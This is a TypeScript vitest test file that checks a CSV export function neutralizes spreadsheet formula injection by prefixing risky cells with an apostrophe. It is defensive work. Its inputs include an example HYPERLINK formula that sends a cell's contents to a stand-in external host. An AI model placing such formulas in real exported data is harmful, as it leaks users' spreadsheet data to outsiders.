import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { csvText } from './csv-text.ts'

const cellOf = (text: string): string => {
  const csv = csvText(['a', 'b'], [[text, 1]], { delimiter: ',' })
  return Papa.parse<string[]>(csv.replace('\uFEFF', ''), { delimiter: ',' }).data[1]?.[0] ?? ''
}

describe('text', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    ' =1',
    '\r=1',
    '\n=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '\u200B=1',
    '\u202E=1',
    '\uFEFF=1',
    '\u00A0=1',
    '\u2028=1',
    '=HYPERLINK("https://example.com/?"&A1,"x")',
    '=1+2\'" ;,',
  ])('that is a formula gets an apostrophe: %j', (text) => {
    expect(cellOf(text)).toMatch(/^'[=+\-@＝＋－＠]/u)
  })

  it.each([
    ['a;=1+1;b', "a;'=1+1;b"],
    ['a, -1', "a, '-1"],
    ['a|@x', "a|'@x"],
    ['a\t=1', "a '=1"],
    ['a\r\n=1', "a '=1"],
    ['x;"=1+1;"y', `x;"'=1+1;"y`],
    ['x, ""@y', `x, ""'@y`],
    ['x;"\u200B"=1', `x;"\u200B"'=1`],
    ['x "=1+1"', `x "'=1+1"`],
    ['x;\u034F=1', "x;\u034F'=1"],
    ['x -1', "x '-1"],
  ])('holds none where a spreadsheet could split it: %j', (text, shown) => {
    expect(cellOf(text)).toBe(shown)
  })

  it.each(['Anna Nowak-Żółkiewska', 'Tier 1 - North', 'O’Brien', '"quoted", he said', '👩‍💻 Desk', 'می‌خواهم'])(
    'stays what it is: %j',
    (text) => {
      expect(cellOf(text)).toBe(text)
    },
  )
})

it('is UTF-8 with byte order mark and CRLF, with a decimal comma where the delimiter is a semicolon', () => {
  const rows = [
    [17 / 19, null, 'x;y'],
    [-0.5, 1_000_000, 0.0000001],
  ]
  expect(csvText(['a', 'b', 'c'], rows, { delimiter: ';' })).toBe(
    '\uFEFFa;b;c\r\n0,8947368421052632;;"x;y"\r\n-0,5;1000000;0,0000001\r\n',
  )
  expect(csvText(['a', 'b', 'c'], rows, { delimiter: ',' })).toBe(
    '\uFEFFa,b,c\r\n0.8947368421052632,,x;y\r\n-0.5,1000000,0.0000001\r\n',
  )
})
